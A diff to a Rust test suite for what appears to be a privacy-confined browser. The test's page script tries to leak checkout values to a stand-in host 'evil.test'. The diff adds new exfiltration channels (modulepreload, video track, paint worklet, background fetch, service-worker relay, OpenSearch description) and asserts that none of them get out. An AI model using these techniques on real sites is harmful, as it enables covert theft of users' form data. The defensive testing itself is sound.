@@ -9,6 +9,7 @@ use crate::stage::{FORM, PATIENCE, REQUEST, Stage};
 const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe>
   <iframe id="drawn" src="/drawn.svg"></iframe><iframe id="late"></iframe><a id="a"></a><script>
   const to = 'https://evil.test:PORT/';
+  const worker = navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready);
   const ways = {
     fetch: (d) => fetch(to + 'fetch?' + d, { mode: 'no-cors' }),
     beacon: (d) => navigator.sendBeacon(to + 'beacon', d),
@@ -48,6 +49,11 @@ const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></i
     preload: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: to + 'preload?' + d })),
     icon: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: to + 'icon?' + d })),
     modules: (d) => import(to + 'modules?' + d),
+    following: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: to + 'following?' + d })),
+    track: (d) => document.body.insertAdjacentHTML('beforeend', `<video crossorigin><track default src="${to}track?${d}"></video>`),
+    paint: (d) => CSS.paintWorklet.addModule(to + 'paint?' + d),
+    background: (d) => worker.then((registration) => registration.backgroundFetch.fetch(`${Math.random()}`, [to + 'background?' + d])),
+    service: (d) => worker.then((registration) => registration.active.postMessage(to + 'service?' + d)),
     redirect: (d) => fetch('/redirect?' + d, { mode: 'no-cors' }),
     form: (d) => { const form = document.createElement('form'); Object.assign(form, { action: to + 'form', method: 'post', target: 'f' });
       form.append(Object.assign(document.createElement('input'), { name: 'd', value: d })); document.body.append(form); form.submit(); },
@@ -70,6 +76,14 @@ const TAKES: &str = "void setTimeout(() => document.body.insertAdjacentHTML('bef
 const LATE: &str = "<!doctype html><script>
     addEventListener('message', (e) => { new Image().src = '/mine?' + encodeURIComponent(e.data); });</script>";
 
+/// The site's own service worker.
+const WORKER: &str =
+    "addEventListener('message', (e) => { fetch(e.data, { mode: 'no-cors' }).catch(() => {}); });";
+
+/// A page that names a description of its search, which the browser fetches by itself.
+const SEARCHED: &str = "<!doctype html><link rel=search type='application/opensearchdescription+xml' title=x
+    href='https://evil.test:PORT/described'>";
+
 const FRAME: &str =
     "<!doctype html><script>addEventListener('message', (e) => { new Image().src = e.data; });</script>";
 
@@ -79,6 +93,8 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
     stage.site.put("bank.test/frame", FRAME);
     stage.site.put("evil.test/slow", LATE);
+    stage.site.put("shop.test/worker.js", WORKER);
+    stage.site.put("shop.test/", SEARCHED);
     stage.site.put(
         "shop.test/drawn.svg",
         "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>",
@@ -88,7 +104,9 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     stage.site.redirect("shop.test/redirect", &redirect);
     stage.serve(true);
     stage.browse();
-    let url = stage.site.url("shop.test/checkout");
+    let (url, searched) = (stage.site.url("shop.test/checkout"), stage.site.url("shop.test/"));
+    stage.browser().open(&searched);
+    arrive(&stage, "evil.test", &["described"]);
     stage.browser().open(&url);
 
     // Without a value in it the page sends what it likes: so the attacker does listen.
@@ -152,6 +170,9 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
     assert_eq!(quiet(&stage), before, "the shop's page of later");
+    stage.browser().open(&searched);
+    assert_eq!(quiet(&stage), before, "a page that the browser fetches a description for");
+    stage.browser().open(&url);
     stage.no_value_got_out();
 
     // The shop itself gets what is sent to it.
@@ -210,7 +231,7 @@ fn a_browser_that_was_started_anew_keeps_the_pages_of_the_task_narrow() {
     stage.no_value_got_out();
 }
 
-const WAYS: [&str; 33] = [
+const WAYS: [&str; 38] = [
     "fetch",
     "beacon",
     "image",
@@ -242,6 +263,11 @@ const WAYS: [&str; 33] = [
     "preload",
     "icon",
     "modules",
+    "following",
+    "track",
+    "paint",
+    "background",
+    "service",
     "redirected",
     "form",
 ];
